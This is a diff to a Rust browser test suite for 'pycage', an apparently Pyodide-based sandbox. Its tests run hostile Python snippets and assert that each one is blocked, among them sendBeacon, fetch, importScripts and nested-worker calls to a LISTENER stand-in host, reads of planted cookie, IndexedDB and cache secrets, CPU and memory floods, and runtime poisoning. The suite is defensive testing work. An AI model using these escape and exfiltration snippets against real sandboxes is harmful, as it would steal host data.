@@ -8,7 +8,12 @@ use common::*;
 
 wasm_bindgen_test_configure!(run_in_browser);
 
-const SECRETS: &[&str] = &["PYCAGE-SECRET-FILE-7f3a", "COOKIE-SECRET-91b2", "IDB-SECRET-5c4d", "CACHE-SECRET-e8f0"];
+const SECRETS: &[&str] = &[
+    "PYCAGE-SECRET-FILE-7f3a",
+    "COOKIE-SECRET-91b2",
+    "IDB-SECRET-5c4d",
+    "CACHE-SECRET-e8f0",
+];
 
 /// Plants the host's secrets: a cookie, an IndexedDB record, a CacheStorage entry.
 async fn plant_secrets() {
@@ -30,7 +35,38 @@ async fn plant_secrets() {
 
 async fn clear_listener() {
     let url = format!("{}/__clear", listener());
-    wasm_bindgen_futures::JsFuture::from(web_sys::window().unwrap().fetch_with_str(&url)).await.unwrap();
+    wasm_bindgen_futures::JsFuture::from(web_sys::window().unwrap().fetch_with_str(&url))
+        .await
+        .unwrap();
+}
+
+/// The longest the page's own timer may go without firing during an attack.
+/// Generous: this is a debug build on a loaded 2-core machine, and the point
+/// is "the page never freezes", not a latency target.
+const MAX_PAGE_STALL_MS: f64 = 2000.0;
+
+/// Starts (or restarts) a 25 ms timer on the page that records its longest gap.
+fn start_heartbeat() {
+    js_sys::eval(
+        "window.__beat = { last: performance.now(), maxGap: 0, count: 0 };\
+         window.__beatTimer = window.__beatTimer || setInterval(() => { const b = window.__beat, t = performance.now();\
+         b.maxGap = Math.max(b.maxGap, t - b.last); b.last = t; b.count++; }, 25); 0",
+    )
+    .unwrap();
+}
+
+/// Asserts the page's timer kept firing since `start_heartbeat`.
+fn assert_page_responsive(what: &str) {
+    let beat = js_sys::eval("({ ...window.__beat, maxGap: Math.max(window.__beat.maxGap, performance.now() - window.__beat.last) })").unwrap();
+    let max_gap = get(&beat, "maxGap").as_f64().unwrap();
+    let count = get(&beat, "count").as_f64().unwrap();
+    web_sys::console::log_1(
+        &format!("page timer during {what}: {count} ticks, longest gap {max_gap:.0} ms").into(),
+    );
+    assert!(
+        count > 0.0 && max_gap < MAX_PAGE_STALL_MS,
+        "the page stalled during {what}: longest timer gap {max_gap:.0} ms"
+    );
 }
 
 /// Runs one attack and checks the invariants; returns the Execution.
@@ -39,34 +75,87 @@ async fn attack(code: &str) -> JsValue {
 }
 
 async fn attack_with(code: &str, opts: JsValue) -> JsValue {
+    attack_on(&*attack_sandbox().await, code, opts).await
+}
+
+/// "iframe" (the default, and what the test command runs). Building with
+/// PYCAGE_ATTACK_ISOLATION=worker runs the same suite against worker mode,
+/// to count what that mode lets through (README, Security model).
+fn isolation() -> &'static str {
+    option_env!("PYCAGE_ATTACK_ISOLATION").unwrap_or("iframe")
+}
+
+thread_local! {
+    static SANDBOX: std::cell::RefCell<Option<std::rc::Rc<pycage::Sandbox>>> = const { std::cell::RefCell::new(None) };
+}
+
+async fn attack_sandbox() -> std::rc::Rc<pycage::Sandbox> {
+    if let Some(sb) = SANDBOX.with(|s| s.borrow().clone()) {
+        return sb;
+    }
+    let sb = std::rc::Rc::new(
+        sandbox(&[
+            ("timeoutMs", 20_000.into()),
+            ("isolation", isolation().into()),
+        ])
+        .await,
+    );
+    SANDBOX.with(|s| *s.borrow_mut() = Some(sb.clone()));
+    sb
+}
+
+/// The invariants every attack is held to: nothing planted leaks into the
+/// result, the listener records nothing, the page's timer keeps firing, and
+/// the same sandbox (or its replacement) then runs `print(1+1)`.
+async fn attack_on(sb: &pycage::Sandbox, code: &str, opts: JsValue) -> JsValue {
     plant_secrets().await;
     clear_listener().await;
-    let sb = shared().await;
+    start_heartbeat();
     let code = code.replace("LISTENER", listener());
-    let ex = run_with(&sb, &code, opts).await;
-    let dump = json(&ex);
+    let ex = run_with(sb, &code, opts).await;
+    assert_not_leaked(&ex).await;
+    assert_healthy(sb).await;
+    assert_page_responsive(&code[..code.len().min(60)]);
+    ex
+}
+
+async fn assert_not_leaked(ex: &JsValue) {
+    let dump = json(ex);
     for secret in SECRETS {
         assert!(!dump.contains(secret), "secret {secret} leaked: {dump}");
     }
     sleep(300).await; // let any stray request land
-    assert_eq!(listener_log().await, Vec::<String>::new(), "the listener saw a request; result: {dump}");
-    assert_healthy(&sb).await;
-    ex
+    assert_eq!(
+        listener_log().await,
+        Vec::<String>::new(),
+        "the listener saw a request; result: {dump}"
+    );
 }
 
 fn out(ex: &JsValue) -> String {
-    format!("{} {} {}", text(ex, "stdout"), text(ex, "stderr"), text(ex, "error.message"))
+    format!(
+        "{} {} {}",
+        text(ex, "stdout"),
+        text(ex, "stderr"),
+        text(ex, "error.message")
+    )
 }
 
 #[wasm_bindgen_test]
 async fn a01_fetch_same_origin_secret_fails() {
-    let ex = attack("import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())").await;
+    let ex = attack(
+        "import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())",
+    )
+    .await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
     // The native fetch too, past pycage's fetch: blocked by the CSP.
     let ex = attack(
         &"import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
          r = await f.call(js.self, 'ORIGIN/tests/fixtures/secret.json')\nprint(await r.text())"
-            .replace("ORIGIN", &web_sys::window().unwrap().location().origin().unwrap()),
+            .replace(
+                "ORIGIN",
+                &web_sys::window().unwrap().location().origin().unwrap(),
+            ),
     )
     .await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
@@ -94,7 +183,11 @@ async fn a03_no_cors_exfiltration_never_arrives() {
     .await;
     assert_eq!(status(&ex), "error");
     let ex = attack("import js\nprint(js.navigator.sendBeacon('LISTENER/beacon', 'x'))").await;
-    assert!(status(&ex) == "error" || text(&ex, "stdout").starts_with("False"), "{}", json(&ex));
+    assert!(
+        status(&ex) == "error" || text(&ex, "stdout").starts_with("False"),
+        "{}",
+        json(&ex)
+    );
 }
 
 #[wasm_bindgen_test]
@@ -117,9 +210,17 @@ async fn a05_websocket_and_eventsource_are_blocked() {
 async fn a06_import_scripts_and_dynamic_import_are_blocked() {
     let ex = attack("import js\njs.importScripts('LISTENER/evil.js')").await;
     assert_eq!(status(&ex), "error");
-    let ex = attack("from pyodide.code import run_js\nawait run_js(\"import('LISTENER/evil.mjs')\")").await;
+    let ex =
+        attack("from pyodide.code import run_js\nawait run_js(\"import('LISTENER/evil.mjs')\")")
+            .await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
-    assert!(out(&ex).contains("EvalError") || out(&ex).contains("unsafe-eval") || out(&ex).contains("Content Security"), "{}", out(&ex));
+    assert!(
+        out(&ex).contains("EvalError")
+            || out(&ex).contains("unsafe-eval")
+            || out(&ex).contains("Content Security"),
+        "{}",
+        out(&ex)
+    );
 }
 
 #[wasm_bindgen_test]
@@ -128,7 +229,10 @@ async fn a07_host_storage_is_out_of_reach() {
     assert_eq!(status(&ex), "error", "{}", json(&ex));
     let ex = attack("import js\nc = await js.caches.open('app')\nr = await c.match('/secret-cache')\nprint(await r.text())").await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
-    let ex = attack("import js\nprint(getattr(js, 'document', None), getattr(js, 'localStorage', None))").await;
+    let ex = attack(
+        "import js\nprint(getattr(js, 'document', None), getattr(js, 'localStorage', None))",
+    )
+    .await;
     assert_eq!(text(&ex, "stdout"), "None None\n");
 }
 
@@ -140,20 +244,27 @@ async fn a08_forged_results_are_ignored() {
         orig = js.MessagePort.prototype.postMessage\n\
         print('real output')\n'real result'";
     let ex = attack(code).await;
-    assert_eq!(text(&ex, "result.text/plain"), "'real result'", "{}", json(&ex));
+    assert_eq!(
+        text(&ex, "result.text/plain"),
+        "'real result'",
+        "{}",
+        json(&ex)
+    );
     assert_eq!(text(&ex, "stdout"), "real output\n");
 }
 
 #[wasm_bindgen_test]
 async fn a09_post_message_flood_is_bounded() {
-    let ticks = js_sys::eval("window.__ticks = 0; setInterval(() => window.__ticks++, 50); 0").unwrap();
-    let _ = ticks;
-    let started = now();
-    let ex = attack_with("import js\nwhile True:\n    js.postMessage('x' * 10**7)", obj(&[("timeoutMs", 5000.into())])).await;
-    assert!(["crashed", "timeout"].contains(&status(&ex).as_str()), "{}", json(&ex));
-    let ticks = js_sys::eval("window.__ticks").unwrap().as_f64().unwrap();
-    let elapsed = now() - started;
-    assert!(ticks > elapsed / 50.0 / 4.0, "the page stalled: {ticks} ticks in {elapsed} ms");
+    let ex = attack_with(
+        "import js\nwhile True:\n    js.postMessage('x' * 10**7)",
+        obj(&[("timeoutMs", 5000.into())]),
+    )
+    .await;
+    assert!(
+        ["crashed", "timeout"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
 }
 
 #[wasm_bindgen_test]
@@ -165,7 +276,11 @@ async fn a10_svg_and_html_scripts_never_run_in_the_page() {
     assert_eq!(status(&ex), "ok");
     let figure = get(&as_array(&get(&ex, "figures")).get(0), "mime");
     assert_eq!(figure.as_string().unwrap(), "image/svg+xml");
-    assert!(text(&ex, "result.text/html").contains("<script>"), "HTML comes back as data: {}", json(&ex));
+    assert!(
+        text(&ex, "result.text/html").contains("<script>"),
+        "HTML comes back as data: {}",
+        json(&ex)
+    );
     sleep(200).await;
     assert_eq!(js_sys::eval("window.__pwned").unwrap().as_f64(), Some(0.0));
 }
@@ -179,35 +294,98 @@ async fn a11_markup_in_stdout_is_plain_text() {
 #[wasm_bindgen_test]
 async fn a12_output_floods_are_capped() {
     let ex = attack_with("print('A' * 10**9)", obj(&[("timeoutMs", 20_000.into())])).await;
-    assert!(["ok", "error"].contains(&status(&ex).as_str()), "{}", json(&ex));
+    assert!(
+        ["ok", "error"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
     if status(&ex) == "ok" {
         assert_eq!(get(&ex, "truncated"), JsValue::TRUE);
         assert_eq!(text(&ex, "stdout").len(), 20_000_000.min(1 << 20));
     }
     let ex = attack("for i in range(10**6): print(i)").await;
-    assert_eq!(get(&ex, "truncated"), JsValue::TRUE, "{} {}", status(&ex), text(&ex, "error.message"));
+    assert_eq!(
+        get(&ex, "truncated"),
+        JsValue::TRUE,
+        "{} {}",
+        status(&ex),
+        text(&ex, "error.message")
+    );
     assert_eq!(text(&ex, "stdout").len(), 1 << 20);
 }
 
 #[wasm_bindgen_test]
+async fn a13_busy_loop_is_stopped_at_its_deadline() {
+    let started = now();
+    let ex = attack_with("while True: pass", obj(&[("timeoutMs", 500.into())])).await;
+    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
+    assert!(
+        get(&ex, "durationMs").as_f64().unwrap() < 1500.0,
+        "{}",
+        json(&ex)
+    );
+    assert!(now() - started < 20_000.0);
+}
+
+#[wasm_bindgen_test]
+async fn a14_sleep_forever_is_stopped_at_its_deadline() {
+    let ex = attack_with(
+        "import time\ntime.sleep(10**6)",
+        obj(&[("timeoutMs", 500.into())]),
+    )
+    .await;
+    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
+    assert!(
+        get(&ex, "durationMs").as_f64().unwrap() < 1500.0,
+        "{}",
+        json(&ex)
+    );
+}
+
+#[wasm_bindgen_test]
 async fn a15_atomics_wait_forever_is_stopped() {
-    let code = "import js\nb = js.Int32Array.new(js.SharedArrayBuffer.new(4))\njs.Atomics.wait(b, 0, 0)";
+    let code =
+        "import js\nb = js.Int32Array.new(js.SharedArrayBuffer.new(4))\njs.Atomics.wait(b, 0, 0)";
     let ex = attack_with(code, obj(&[("timeoutMs", 500.into())])).await;
     // Without cross-origin isolation in the frame there is no SharedArrayBuffer at all.
-    assert!(["timeout", "error"].contains(&status(&ex).as_str()), "{}", json(&ex));
+    assert!(
+        ["timeout", "error"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
 }
 
 #[wasm_bindgen_test]
 async fn a16_memory_bomb_is_survived() {
-    let ex = attack_with("x = [bytearray(10**8) for _ in range(100)]", obj(&[("timeoutMs", 20_000.into())])).await;
-    assert!(["error", "crashed", "timeout"].contains(&status(&ex).as_str()), "{}", json(&ex));
+    let ex = attack_with(
+        "x = [bytearray(10**8) for _ in range(100)]",
+        obj(&[("timeoutMs", 20_000.into())]),
+    )
+    .await;
+    assert!(
+        ["error", "crashed", "timeout"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a17_self_close_is_a_crash() {
+    let ex = attack("import js\nprint('before')\njs.self.close()").await;
+    assert_eq!(status(&ex), "crashed", "{}", json(&ex));
 }
 
 #[wasm_bindgen_test]
 async fn a18_a_reset_sandbox_is_clean() {
-    let sb = shared().await;
-    run(&sb, "import builtins\nbuiltins.print = lambda *a, **k: None").await;
-    wasm_bindgen_futures::JsFuture::from(sb.reset()).await.unwrap();
+    let sb = attack_sandbox().await;
+    run(
+        &sb,
+        "import builtins\nbuiltins.print = lambda *a, **k: None",
+    )
+    .await;
+    wasm_bindgen_futures::JsFuture::from(sb.reset())
+        .await
+        .unwrap();
     assert_healthy(&sb).await;
 }
 
@@ -215,6 +393,21 @@ async fn a18_a_reset_sandbox_is_clean() {
 async fn a19_stdout_set_to_none_still_completes() {
     let ex = attack("import sys\nsys.stdout = None\nprint('lost')\n'done'").await;
     assert_eq!(text(&ex, "result.text/plain"), "'done'");
+}
+
+#[wasm_bindgen_test]
+async fn a20_exits_are_reported() {
+    let ex = attack("raise SystemExit(3)").await;
+    assert_eq!(
+        (status(&ex).as_str(), text(&ex, "error.type").as_str()),
+        ("error", "SystemExit"),
+        "{}",
+        json(&ex)
+    );
+    let ex = attack("import sys\nsys.exit()").await;
+    assert_eq!(text(&ex, "error.type"), "SystemExit", "{}", json(&ex));
+    let ex = attack("import os\nos._exit(0)").await;
+    assert_eq!(status(&ex), "crashed", "{}", json(&ex));
 }
 
 #[wasm_bindgen_test]
@@ -232,13 +425,132 @@ async fn a21_huge_and_countless_figures_are_capped() {
     assert_eq!(status(&ex), "ok", "{}", text(&ex, "error.message"));
     assert_eq!(as_array(&get(&ex, "figures")).length(), 50);
     let dropped = json(&get(&ex, "droppedOutputs"));
-    assert!(dropped.contains("maxFigureBytes") && dropped.contains("maxFigures"), "{dropped}");
+    assert!(
+        dropped.contains("maxFigureBytes") && dropped.contains("maxFigures"),
+        "{dropped}"
+    );
 }
 
 #[wasm_bindgen_test]
 async fn a22_micropip_from_an_unlisted_url_is_blocked() {
-    let ex = attack("import micropip\nawait micropip.install('LISTENER/x-1.0-py3-none-any.whl')").await;
+    let ex =
+        attack("import micropip\nawait micropip.install('LISTENER/x-1.0-py3-none-any.whl')").await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
     let ex = attack("import pyodide_js\nawait pyodide_js.loadPackage('LISTENER/x-1.0-py3-none-any.whl')\nimport x").await;
     assert_eq!(status(&ex), "error", "{}", json(&ex));
+}
+
+// Beyond THREATS.md.
+
+#[wasm_bindgen_test]
+async fn a23_code_left_running_after_its_run_is_stopped_by_the_next_deadline() {
+    // A timer keeps Python busy after the run returns: the next run cannot
+    // start, so its deadline must kill the interpreter (an interrupt would
+    // land in the attacker's code, which can catch it).
+    let sb = sandbox(&[
+        ("timeoutMs", 1500.into()),
+        ("isolation", isolation().into()),
+    ])
+    .await;
+    start_heartbeat();
+    let code = "import js\nfrom pyodide.ffi import create_once_callable\n\
+        def spin():\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n\
+        js.setTimeout(create_once_callable(spin), 200)\n'scheduled'";
+    let ex = run(&sb, code).await;
+    assert_eq!(
+        text(&ex, "result.text/plain"),
+        "'scheduled'",
+        "{}",
+        json(&ex)
+    );
+    sleep(500).await; // the timer has fired: the worker is spinning
+    let ex = run(&sb, "print('never')").await;
+    assert_eq!(status(&ex), "timeout", "{}", json(&ex));
+    assert_eq!(get(&ex, "interpreterReset"), JsValue::TRUE, "{}", json(&ex));
+    assert_healthy(&sb).await;
+    assert_page_responsive("a background busy loop");
+    sb.dispose();
+}
+
+#[wasm_bindgen_test]
+async fn a24_broadcast_channels_and_locks_stay_in_the_sandbox() {
+    // The page listens on a BroadcastChannel its other tabs share, and its
+    // Web Locks must stay available.
+    js_sys::eval("window.__bc = []; window.__bcChannel = new BroadcastChannel('app'); window.__bcChannel.onmessage = (e) => window.__bc.push(e.data); 0").unwrap();
+    let code = "import js, asyncio\nfrom pyodide.ffi import create_proxy\n\
+        js.BroadcastChannel.new('app').postMessage('HIJACK')\n\
+        hold = create_proxy(lambda lock: js.Promise.new(create_proxy(lambda ok, fail: None)))\n\
+        try:\n    await asyncio.wait_for(js.navigator.locks.request('app-lock', hold), 0.5)\n\
+        except BaseException as e:\n    print('locks:', type(e).__name__)";
+    let ex = attack(code).await;
+    assert_eq!(
+        json(&js_sys::eval("window.__bc").unwrap()),
+        "[]",
+        "a message crossed into the page: {}",
+        json(&ex)
+    );
+    let free = js_sys::eval(
+        "navigator.locks.request('app-lock', { ifAvailable: true }, (lock) => lock !== null)",
+    )
+    .unwrap();
+    let free = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(free))
+        .await
+        .unwrap();
+    assert_eq!(
+        free,
+        JsValue::TRUE,
+        "the sandbox holds the page's lock: {}",
+        json(&ex)
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a25_a_poisoned_runtime_cannot_crash_the_page() {
+    // User code replaces what the worker uses to build its messages, so the
+    // reply is 20 000 levels deep: the page's decoder must not recurse into it.
+    let code = "import js\nfrom pyodide.ffi import create_proxy\n\
+        orig = js.Object.fromEntries\n\
+        def deep(n):\n    root = cur = js.Object.new()\n    for _ in range(n):\n        nxt = js.Object.new()\n        setattr(cur, 'text/plain', nxt)\n        cur = nxt\n    return root\n\
+        def poisoned(entries):\n    o = orig(entries)\n    o.result = deep(20000)\n    o.data = deep(20000)\n    return o\n\
+        js.Object.fromEntries = create_proxy(poisoned)\n'x'";
+    let ex = attack_with(code, obj(&[("timeoutMs", 5000.into())])).await;
+    assert!(
+        ["ok", "timeout", "crashed", "error"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
+    assert!(
+        get(&ex, "result").is_null() || get(&ex, "result.text/plain").is_string(),
+        "{}",
+        json(&ex)
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a26_nested_workers_inherit_the_lockdown() {
+    let code = "import js, asyncio\nfrom pyodide.ffi import to_js\n\
+        src = \"fetch('LISTENER/nested').catch(() => {}); try { new WebSocket('ws://127.0.0.1:8799/nested') } catch (e) {}\"\n\
+        blob = js.Blob.new(to_js([src]), to_js({'type': 'text/javascript'}))\n\
+        w = js.Worker.new(js.URL.createObjectURL(blob))\n\
+        await asyncio.sleep(0.5)\nprint('spawned')";
+    let ex = attack(code).await;
+    // Whether the nested worker starts or not, nothing it tried may arrive.
+    assert!(
+        ["ok", "error"].contains(&status(&ex).as_str()),
+        "{}",
+        json(&ex)
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a27_no_service_worker_for_the_page() {
+    let code = "import js\nsw = getattr(js.navigator, 'serviceWorker', None)\nprint('exposed', sw is not None)\n\
+        if sw is not None:\n    await sw.register('/tests/fixtures/sw.js')";
+    attack(code).await;
+    let regs =
+        js_sys::eval("navigator.serviceWorker.getRegistrations().then((r) => r.length)").unwrap();
+    let regs = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(regs))
+        .await
+        .unwrap();
+    assert_eq!(regs.as_f64(), Some(0.0));
 }
